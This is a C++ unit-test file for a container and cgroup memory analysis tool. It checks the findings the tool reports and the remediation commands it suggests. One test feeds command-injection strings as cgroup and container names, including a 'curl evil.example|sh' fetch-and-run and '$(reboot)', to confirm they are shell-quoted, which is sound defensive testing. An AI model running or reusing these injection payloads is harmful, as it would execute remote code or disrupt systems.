// SPDX-License-Identifier: Apache-2.0
// Container findings: limits, OOM kills, pids, pressure, restart loops; and the actions.
#include <gtest/gtest.h>

#include "analysis/actions.h"
#include "analysis_fixture.h"
#include "base/text_format.h"

namespace procleak {
namespace {

using testing::FindingsOf;
using testing::SnapshotBuilder;

constexpr uint64_t kGiB = 1ull << 30;

TEST(ContainerFindings, BigContainerWithoutLimit_IsWarningWithSizedComposeLimit) {
  SnapshotBuilder b;
  b.Add(1, 0, {"/sbin/init"}, 0, 10);
  b.Add(2101, 1, {"node", "/app/hub.js"}, 1, 90, "aaa");
  Container& c = b.AddContainer("aaa", "mcp-hub");
  c.memory_bytes = 99 * kGiB;
  c.memory_limit = Limit::Unlimited();
  Analysis a = Analyze(b.Build(), nullptr);
  std::vector<const Finding*> f = FindingsOf(a, FindingKind::kNoMemoryLimit);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0]->severity, Severity::kWarning);
  EXPECT_EQ(f[0]->container, "aaa");
  // 99 GiB * 1.25 = 123.75 GiB -> 124 GiB (a multiple of 256 MiB).
  EXPECT_NE(f[0]->action.find("docker update --memory 124g --memory-swap 124g mcp-hub"),
            std::string::npos)
      << f[0]->action;
  EXPECT_NE(f[0]->action.find("mem_limit: 124g"), std::string::npos);
  EXPECT_NE(f[0]->action.find("deploy.resources.limits.memory: 124g"), std::string::npos);
}

TEST(ContainerFindings, SmallContainerWithoutLimit_IsOnlyInfo) {
  SnapshotBuilder b;
  b.Add(10, 1, {"/usr/sbin/nginx"}, 1, 9, "bbb");
  b.AddContainer("bbb", "web").memory_bytes = 200ull << 20;
  Analysis a = Analyze(b.Build(), nullptr);
  std::vector<const Finding*> f = FindingsOf(a, FindingKind::kNoMemoryLimit);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0]->severity, Severity::kInfo);
  EXPECT_EQ(WorstSeverity(a), Severity::kInfo);
}

TEST(ContainerFindings, NearLimit_WarnsAt80AndIsCriticalFrom95Percent) {
  for (auto [used_mib, want] : {std::pair<uint64_t, std::optional<Severity>>{400, std::nullopt},
                                {420, Severity::kWarning},
                                {500, Severity::kCritical}}) {
    SnapshotBuilder b;
    b.Add(10, 1, {"/usr/bin/java", "-jar", "app.jar"}, 1, 300, "ccc");
    Container& c = b.AddContainer("ccc", "api");
    c.memory_bytes = used_mib << 20;
    c.memory_limit = Limit::Of(512ull << 20);
    Analysis a = Analyze(b.Build(), nullptr);
    std::vector<const Finding*> f = FindingsOf(a, FindingKind::kNearMemoryLimit);
    if (!want) {
      EXPECT_TRUE(f.empty()) << used_mib;
      continue;
    }
    ASSERT_EQ(f.size(), 1u) << used_mib;
    EXPECT_EQ(f[0]->severity, *want) << used_mib;
  }
}

TEST(ContainerFindings, OomKillsPidsAndPressure_AreReported) {
  SnapshotBuilder b;
  b.Add(10, 1, {"/usr/bin/java", "-jar", "app.jar"}, 1, 300, "ddd");
  Container& c = b.AddContainer("ddd", "api");
  c.memory_bytes = 100ull << 20;
  c.memory_limit = Limit::Of(kGiB);
  c.oom_kills = 3;
  c.pids_current = 95;
  c.pids_max = Limit::Of(100);
  c.memory_pressure = Pressure{PressureLine{30, 25, 10, 123}, PressureLine{12, 11, 3, 45}};
  Analysis a = Analyze(b.Build(), nullptr);
  ASSERT_EQ(FindingsOf(a, FindingKind::kOomKills).size(), 1u);
  EXPECT_NE(FindingsOf(a, FindingKind::kOomKills)[0]->message.find("3"), std::string::npos);
  ASSERT_EQ(FindingsOf(a, FindingKind::kPidsNearLimit).size(), 1u);
  EXPECT_EQ(FindingsOf(a, FindingKind::kPidsNearLimit)[0]->severity, Severity::kWarning);
  ASSERT_EQ(FindingsOf(a, FindingKind::kMemoryPressure).size(), 1u);
  EXPECT_EQ(FindingsOf(a, FindingKind::kMemoryPressure)[0]->severity,
            Severity::kCritical);  // full >= 10
}

TEST(ContainerFindings, RestartingContainerWithoutProcesses_IsCriticalRestartLoop) {
  SnapshotBuilder b;
  b.Add(1, 0, {"/sbin/init"}, 0, 10);
  Container& c = b.AddContainer("eee", "worker");
  c.restart_count = 37;
  c.state = "restarting";
  c.restart_policy = "always";
  Analysis a = Analyze(b.Build(), nullptr);
  std::vector<const Finding*> f = FindingsOf(a, FindingKind::kRestartLoop);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0]->severity, Severity::kCritical);
  EXPECT_NE(f[0]->message.find("37"), std::string::npos);
  EXPECT_NE(f[0]->action.find("docker logs --tail 50 worker"), std::string::npos) << f[0]->action;
  EXPECT_TRUE(FindingsOf(a, FindingKind::kNoMemoryLimit).empty())
      << "no processes, no memory finding";
}

TEST(ContainerFindings, FewRestarts_AreNoFinding) {
  SnapshotBuilder b;
  Container& c = b.AddContainer("fff", "cron");
  c.restart_count = 2;
  c.state = "running";
  EXPECT_TRUE(FindingsOf(Analyze(b.Build(), nullptr), FindingKind::kRestartLoop).empty());
}

TEST(ContainerFindings, AreSortedCriticalFirst) {
  SnapshotBuilder b;
  b.Add(10, 1, {"/usr/sbin/nginx"}, 1, 9, "ggg");
  b.AddContainer("ggg", "web").memory_bytes = 200ull << 20;  // info
  Container& c = b.AddContainer("hhh", "worker");
  c.restart_count = 40;
  c.state = "restarting";  // critical
  Analysis a = Analyze(b.Build(), nullptr);
  ASSERT_GE(a.findings.size(), 2u);
  EXPECT_EQ(a.findings.front().severity, Severity::kCritical);
  EXPECT_EQ(a.findings.back().severity, Severity::kInfo);
}

TEST(Actions, KillCommandListsLeavesBeforeRoots) {
  EXPECT_EQ(KillCommand({{10, 11, 12}, {20, 21}}), "kill -TERM 12 11 10 21 20");
}

TEST(Actions, SuggestedLimitIsObservedPlusQuarterRoundedTo256MiB) {
  EXPECT_EQ(SuggestedMemoryLimit(0, 0), 256ull << 20);
  EXPECT_EQ(SuggestedMemoryLimit(400ull << 20, 0), 512ull << 20);
  EXPECT_EQ(SuggestedMemoryLimit(400ull << 20, 900ull << 20), 1280ull << 20);
  EXPECT_EQ(SuggestedMemoryLimit(99 * kGiB, 0), 124 * kGiB);  // whole GiB above 4 GiB
  EXPECT_EQ(ComposeSize(1280ull << 20), "1280m");
  EXPECT_EQ(ComposeSize(2 * kGiB), "2g");
}

TEST(Actions, PlainCgroupLimitIsTheLimitFileOfTheHostsCgroupMode) {
  EXPECT_EQ(MemoryLimitAction(nullptr, "/system.slice/app.service", 2 * kGiB, CgroupMode::kV2),
            "echo 2147483648 > /sys/fs/cgroup/system.slice/app.service/memory.max");
  EXPECT_EQ(MemoryLimitAction(nullptr, "/lxc/box", 2 * kGiB, CgroupMode::kHybrid),
            "echo 2147483648 > /sys/fs/cgroup/memory/lxc/box/memory.limit_in_bytes");
}

// A cgroup a user delegated and named, a unit with systemd's escapes, a container name: each a
// single shell word in the command root may paste, whatever it holds.
TEST(Actions, NamesInSuggestedCommands_AreOneShellWord) {
  EXPECT_EQ(MemoryLimitAction(nullptr, "/user.slice/x;curl -s evil.example|sh;#", 2 * kGiB,
                              CgroupMode::kV2),
            "echo 2147483648 > '/sys/fs/cgroup/user.slice/x;curl -s evil.example|sh;#/memory.max'");
  EXPECT_EQ(MemoryLimitAction(nullptr, "/it's", 2 * kGiB, CgroupMode::kV1),
            "echo 2147483648 > '/sys/fs/cgroup/memory/it'\\''s/memory.limit_in_bytes'");
  Container c;
  c.id = std::string(64, 'b');
  c.runtime = "podman";
  c.name = "db $(reboot)";
  EXPECT_EQ(MemoryLimitAction(&c, "", 512ull << 20, CgroupMode::kV2),
            "podman update --memory 512m 'db $(reboot)'");
  EXPECT_EQ(ShellQuote("dev-disk-by\\x2duuid.swap"), "'dev-disk-by\\x2duuid.swap'");
  EXPECT_EQ(ShellQuote("nginx.service"), "nginx.service");
  EXPECT_EQ(ShellQuote(""), "''");
}

// Each runtime's row: its own limit command, or the cgroup's limit file where it has none.
TEST(Actions, ContainerLimitIsTheRuntimesOwnCommand) {
  auto action = [](std::string runtime) {
    Container c;
    c.id = std::string(64, 'a');
    c.runtime = std::move(runtime);
    c.name = c.runtime == "podman" ? "db" : "";
    c.cgroup = "/ctr/" + c.runtime;
    return MemoryLimitAction(&c, "/ignored", 512ull << 20, CgroupMode::kV2);
  };
  EXPECT_EQ(action("podman"), "podman update --memory 512m db");
  EXPECT_TRUE(action("docker").starts_with(
      "docker update --memory 512m --memory-swap 512m aaaaaaaaaaaa; in compose"))
      << action("docker");
  EXPECT_EQ(action("cri-o"), "set resources.limits.memory: 512m on the pod's container spec");
  EXPECT_EQ(action("containerd"), action("cri-o"));
  EXPECT_EQ(action("lxc"), "echo 536870912 > /sys/fs/cgroup/ctr/lxc/memory.max");
  EXPECT_EQ(action("nspawn"), "echo 536870912 > /sys/fs/cgroup/ctr/nspawn/memory.max");
  EXPECT_EQ(action("no-such-runtime"),
            "echo 536870912 > /sys/fs/cgroup/ctr/no-such-runtime/memory.max");
}

}  // namespace
}  // namespace procleak
